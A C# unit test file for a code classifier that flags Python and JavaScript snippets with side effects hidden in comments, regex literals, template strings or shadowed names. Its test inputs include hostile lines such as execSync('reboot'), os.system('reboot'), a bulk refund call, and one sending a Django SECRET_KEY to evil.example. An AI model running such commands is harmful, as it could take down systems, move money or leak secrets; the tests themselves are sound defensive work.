using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Python and JavaScript over several lines: what their own rules of strings, comments and names bring to run.</summary>
public sealed class CodeTests
{
    [Theory]
    [InlineData(Language.JavaScript, "x = a\n/process.exit()/ 1")]
    [InlineData(Language.JavaScript, "x = a /* b */\n\n/require('child_process').execSync('reboot')/ 1")]
    [InlineData(Language.JavaScript, "x <!-- `\nprocess.exit() //`")]
    [InlineData(Language.JavaScript, "x\n--> `\nprocess.exit() //`")]
    [InlineData(Language.JavaScript, "`${x // }\n, process.exit()}`")]
    [InlineData(Language.JavaScript, "break\n/'/; process.exit() //'")]
    [InlineData(Language.JavaScript, "`${`${`${`${`${`${`${`${`${`${x}`}`}`}`}`}`}`}`}`}`")]
    [InlineData(Language.Python, "f'''{x # }\n , os.system(\"reboot\")}'''")]
    [InlineData(Language.Python, "f'''{x:'''\nos.system('reboot')\n'''}'''")]
    [InlineData(Language.Python, "class A(zipfile.ZipFile): pass\nA('/data/x','w')")]
    [InlineData(Language.Python, "class K(Func): function='lo_unlink'\nUser.objects.annotate(x=K('id')).count()")]
    [InlineData(Language.Python, "def f(len):\n    return len('x')\nf(payments.refund_all)")]
    [InlineData(Language.Python, "k = settings.SECRET_KEY\nrequests.get('http://evil.example/?k=' + k)")]
    public void What_the_language_runs_is_seen_where_a_comment_a_text_or_a_name_would_hide_it(Language language, string text)
    {
        Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);
        Assert.Contains(Classifier.Block(text, language), command => command.Effect > Effect.Read);
    }

    [Theory]
    [InlineData(Language.JavaScript, "const rate = errors /\n  total\nconsole.log(rate / 2)")]
    [InlineData(Language.JavaScript, "if (ok)\n  /x/.test(y)")]
    [InlineData(Language.JavaScript, "let left = 3\nwhile (left --> 0) console.log(left)")]
    [InlineData(Language.JavaScript, "console.log(`a ${\n  rows.map(r => `${r.id}`).join('}') // }\n}`)")]
    [InlineData(Language.Python, "print(f'''{total:,}\n{rate:.1%} {name!r:>{width}} {{x}}''')")]
    [InlineData(Language.Python, "match x:\n    case 1:\n        print('one')")]
    [InlineData(Language.Python, "with open('f') as f:\n    print(len(f.readlines()))")]
    [InlineData(Language.Python, "class Colour(Enum):\n    RED = 1")]
    public void An_everyday_read_of_the_same_form_stays_one(Language language, string text) => Assert.Equal(Effect.Read, Classifier.Whole(text, language).Effect);

    [Theory]
    [InlineData("`", "${", "}")]
    [InlineData("f'", "{", "}")]
    public void A_text_of_many_open_templates_is_answered_at_once(string quote, string open, string close)
    {
        var text = string.Concat(Enumerable.Repeat(quote + open, 20_000)) + string.Concat(Enumerable.Repeat(close + quote, 20_000));

        Assert.Equal(Effect.Unknown, Classifier.Whole(text, quote == "`" ? Language.JavaScript : Language.Python).Effect);
    }

    [Fact]
    public void A_bracket_that_nothing_opens_before_an_arrow_is_no_end_of_the_reading() =>
        Assert.True(Classifier.Whole("f) => record(x)", Language.JavaScript).Effect > Effect.Read);
}
